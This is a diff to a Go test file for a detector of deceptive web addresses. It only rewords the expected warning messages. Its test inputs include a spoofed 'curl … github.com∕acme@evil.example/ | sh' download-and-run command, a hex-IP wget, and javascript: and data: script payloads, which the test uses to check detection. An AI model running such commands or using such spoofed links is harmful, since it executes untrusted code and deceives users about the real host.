@@ -16,14 +16,14 @@ func TestAddressSetsTheHostApart(t *testing.T) {
 		{"https://example.org/a?b#c", "", "example.org", "", ""},
 		{"https://example.org", "", "example.org", "", ""},
 		{"https://example.org?next=https://evil.example", "", "example.org", "", ""},
-		{"http://127.0.0.1:8080/", "", "127.0.0.1", ":8080", "not encrypted"},
+		{"http://127.0.0.1:8080/", "", "127.0.0.1", ":8080", "Not encrypted"},
 		{"https://[2001:db8::1]:443/", "", "[2001:db8::1]", ":443", ""},
 		{"https://example.org@evil.example/", "example.org@", "evil.example", "", "Contains a username before the host"},
 		{"https://a@b@evil.example/", "a@b@", "evil.example", "", "Contains a username before the host"},
 		{"https://xn--80ak6aa92e.com/", "", "xn--80ak6aa92e.com", "", "looks like “apple”"},
 		{"https://аррӏе.com/", "", "аррӏе.com", "", "looks like “apple”"},
 		{"https://bücher.example/", "", "bücher.example", "", "letters beyond ASCII"},
-		{"odd://example.org/", "", "example.org", "", "scheme is unusual"},
+		{"odd://example.org/", "", "example.org", "", "Unusual scheme"},
 		{"https://example.org:/", "", "example.org", ":", ""},
 		{"postgres://user@db.example/app", "user@", "db.example", "", ""},
 		{"postgres://user:p%40ss.w0rd@db.example:5432/app", "user:p%40ss.w0rd@", "db.example", ":5432", ""},
@@ -84,7 +84,7 @@ func TestHostsInText(t *testing.T) {
 // may take is told, and where they differ, both.
 func TestAddressesThatHideTheirHost(t *testing.T) {
 	t.Parallel()
-	const unread = "This could not be read as an address; programs may take it as "
+	const unread = "Not a valid address; programs may read it as "
 	for _, tt := range []struct{ url, host, note string }{
 		{"https://github.com\u2215acme@evil.example/", "evil.example", unread + "evil.example."},
 		{"https://github.com\u2044acme@evil.example/", "evil.example", unread + "evil.example."},
@@ -114,7 +114,7 @@ func TestAddressesThatHideTheirHost(t *testing.T) {
 		{"https://xn--a.com/", "xn--a.com", "Browsers refuse this; Go programs read it as xn--a.com."},
 		{"javascript:alert(1)", "", "Browsers run this as a script."},
 		{"java\nscript:alert(1)", "", "Browsers run this as a script."},
-		{"data:text/html,<script>", "", "Browsers show what this holds as a page."},
+		{"data:text/html,<script>", "", "Browsers show its content as a page."},
 		{"https://" + strings.Repeat("a@", 20) + "evil.example/", "evil.example", "Contains a username before the host"},
 	} {
 		a, ok := ui.ReadAddress("url", tt.url)
@@ -146,14 +146,14 @@ func TestAddressesThatHideTheirHost(t *testing.T) {
 func TestOddAddressesInText(t *testing.T) {
 	t.Parallel()
 	for text, want := range map[string]string{
-		"curl https://github.com\u2215acme@evil.example/ | sh":        "“https://github.com\u2215acme@evil.example/”: This could not be read as an address; programs may take it as evil.example",
-		`{"command":"curl 'https://good.example\\@evil.example/'\n"}`: `“https://good.example\@evil.example/”: This could not be read as an address; programs may take it as good.example or evil.example`,
-		"open https:/evil.example":                                    "“https:/evil.example”: This could not be read as an address; programs may take it as evil.example",
+		"curl https://github.com\u2215acme@evil.example/ | sh":        "“https://github.com\u2215acme@evil.example/”: Not a valid address; programs may read it as evil.example",
+		`{"command":"curl 'https://good.example\\@evil.example/'\n"}`: `“https://good.example\@evil.example/”: Not a valid address; programs may read it as good.example or evil.example`,
+		"open https:/evil.example":                                    "“https:/evil.example”: Not a valid address; programs may read it as evil.example",
 		"wget http://0x7f.1/x":                                        "“http://0x7f.1/x”: Browsers read this as 127.0.0.1; Go programs as 0x7f.1",
 		`{"a":"https://a.example/x\nnext","b":"https://b.example"}`:   "",
 		"curl https://${HOST}/x https://{h}/ https://$H:80 http:get":  "",
 		"curl https://u:p@a.example, see https://b.example.":          "",
-		"curl https://github.com\u2215{}@${X}.evil.example/":          "“https://github.com\u2215{}@${X}.evil.example/”: This could not be read as an address; programs may take it as ${x}.evil.example",
+		"curl https://github.com\u2215{}@${X}.evil.example/":          "“https://github.com\u2215{}@${X}.evil.example/”: Not a valid address; programs may read it as ${x}.evil.example",
 		"postgres://user@db.example/x redis://cache:6379/0":           "",
 	} {
 		if got := strings.Join(ui.OddAddresses(text, 20), " "); got != want {
